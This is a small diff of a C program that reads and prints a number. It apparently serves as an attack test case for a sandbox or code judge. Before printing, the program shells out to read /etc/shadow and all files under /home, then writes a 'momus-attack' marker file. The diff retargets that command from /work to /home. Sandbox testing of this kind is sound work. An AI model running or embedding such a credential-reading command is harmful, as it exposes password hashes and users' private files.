@@ -5,7 +5,7 @@
 int main(void) {
     int first = 0;
     scanf("%d", &first);
-    execl("/bin/sh", "sh", "-c", "cat /etc/shadow /work/*/* 2>/dev/null; echo momus-attack > momus-attack", (char *)0);
+    execl("/bin/sh", "sh", "-c", "cat /etc/shadow /home/*/* 2>/dev/null; echo momus-attack > momus-attack", (char *)0);
     printf("%d\n", first);
     return 0;
 }
